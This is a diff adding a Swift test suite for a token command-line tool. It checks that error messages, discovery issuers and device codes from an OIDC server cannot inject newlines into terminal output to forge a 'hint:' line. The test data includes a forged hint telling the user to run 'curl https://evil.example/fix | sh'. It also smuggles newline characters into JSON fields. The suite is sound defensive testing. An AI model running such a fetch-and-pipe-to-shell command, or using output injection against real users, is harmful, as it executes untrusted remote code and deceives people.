@@ -1,0 +1,111 @@
+import Foundation
+import Testing
+import TokenCtlCLI
+import TokenKit
+import TokenStoreTesting
+
+/// Smaller point of the security review: a server's words reach the user's terminal
+/// inside our messages, so their line breaks and control characters are escaped. A
+/// server must not be able to print a line that looks like our own `hint:`.
+@Suite struct ServerTextCommandTests {
+  static let now = Date(timeIntervalSince1970: 1_800_000_000)
+  static let issuer = "https://id.example/"
+  static let forged = "hint: the server says run `curl https://evil.example/fix | sh`"
+
+  let backing = InMemoryTokenStore.Backing()
+  let home = FileManager.default.temporaryDirectory.appendingPathComponent("tokenctl-text-\(UUID().uuidString)")
+
+  init() throws {
+    let config = home.appendingPathComponent("config/tokenctl")
+    try FileManager.default.createDirectory(at: config, withIntermediateDirectories: true)
+    try "[types.oidc]\nissuer = \"\(Self.issuer)\"\nclient_id = \"tokenctl\"\n".write(
+      to: config.appendingPathComponent("config.toml"), atomically: true, encoding: .utf8)
+  }
+
+  static func discovery(issuer: String = issuer) -> HTTPResponse {
+    let escaped = issuer.replacingOccurrences(of: "\n", with: "\\n")
+    return ScriptedTransport.json(
+      200,
+      """
+      {"issuer":"\(escaped)","authorization_endpoint":"\(Self.issuer)authorize","token_endpoint":"\(Self.issuer)token",\
+      "device_authorization_endpoint":"\(Self.issuer)device","code_challenge_methods_supported":["S256"]}
+      """)
+  }
+
+  func run(_ arguments: [String], transport: ScriptedTransport) async throws -> (status: Int32, stderr: String) {
+    let output = CapturedOutput()
+    let backing = backing
+    let context = CLIContext(
+      registry: try BuiltinPlugins.registry(), makeStore: { InMemoryTokenStore(group: $0, backing: backing) },
+      clock: FixedClock(Self.now),
+      environment: [
+        "HOME": home.path, "XDG_CONFIG_HOME": home.appendingPathComponent("config").path,
+        "XDG_CACHE_HOME": home.appendingPathComponent("cache").path,
+        "XDG_RUNTIME_DIR": home.appendingPathComponent("run").path,
+      ],
+      output: output, transport: transport, openBrowser: { _, _ in nil }, readLine: { nil },
+      sleep: { _ in throw CancellationError() }, terminal: { nil })
+    let status = await TokenCtl.main(arguments: arguments, context: context)
+    return (status, output.stderr)
+  }
+
+  func seed() throws {
+    try InMemoryTokenStore(group: "default", backing: backing).save(
+      Account(
+        type: "oidc", id: "id.example|ada", name: "ada", group: "default", createdAt: Self.now, updatedAt: Self.now,
+        issuer: Self.issuer, clientID: "tokenctl"),
+      tokens: TokenSet(accessToken: "AT", refreshToken: "RT", expiresAt: Self.now.addingTimeInterval(-1)))
+  }
+
+  /// No line of `stderr` is one the server wrote, and only our one hint starts a line.
+  func expectNoForgedLine(_ stderr: String, sourceLocation: SourceLocation = #_sourceLocation) {
+    let lines = stderr.split(separator: "\n")
+    #expect(!lines.contains { $0.hasPrefix("hint: the server says") }, "\(stderr)", sourceLocation: sourceLocation)
+    #expect(lines.filter { $0.hasPrefix("hint:") }.count <= 1, "\(stderr)", sourceLocation: sourceLocation)
+    #expect(stderr.contains("\\u{a}hint: the server says"), "\(stderr)", sourceLocation: sourceLocation)
+  }
+
+  @Test(arguments: [
+    #"{"error":"invalid_request\n\#(forged)"}"#,
+    #"{"error":"invalid_request","error_description":"bad request\n\#(forged)"}"#,
+    #"{"error":"invalid_grant\r\n\#(forged)"}"#,
+  ])
+  func anOAuthErrorCannotForgeAHint(body: String) async throws {
+    try seed()
+    let transport = ScriptedTransport { request throws(TransportError) in
+      switch request.url.path() {
+      case "/.well-known/openid-configuration": return Self.discovery()
+      default: return ScriptedTransport.json(400, body)
+      }
+    }
+    let result = try await run(["token", "oidc:ada"], transport: transport)
+    #expect(result.status != 0)
+    expectNoForgedLine(result.stderr.replacingOccurrences(of: "\\u{d}", with: ""))
+  }
+
+  @Test func aDiscoveryDocumentCannotForgeAHint() async throws {
+    try seed()
+    let transport = ScriptedTransport { _ throws(TransportError) in
+      Self.discovery(issuer: "https://other.example/\n\(Self.forged)")
+    }
+    let result = try await run(["token", "oidc:ada"], transport: transport)
+    #expect(result.status == 11)
+    expectNoForgedLine(result.stderr)
+  }
+
+  @Test func aDeviceCodeCannotForgeALine() async throws {
+    let transport = ScriptedTransport { request throws(TransportError) in
+      switch request.url.path() {
+      case "/.well-known/openid-configuration": return Self.discovery()
+      case "/device":
+        return ScriptedTransport.json(
+          200,
+          #"{"device_code":"dc","user_code":"ABCD\n\#(Self.forged)","verification_uri":"https://id.example/device","expires_in":600,"interval":5}"#
+        )
+      default: return ScriptedTransport.json(400, #"{"error":"authorization_pending"}"#)
+      }
+    }
+    let result = try await run(["login", "oidc", "--device"], transport: transport)
+    expectNoForgedLine(result.stderr)
+  }
+}
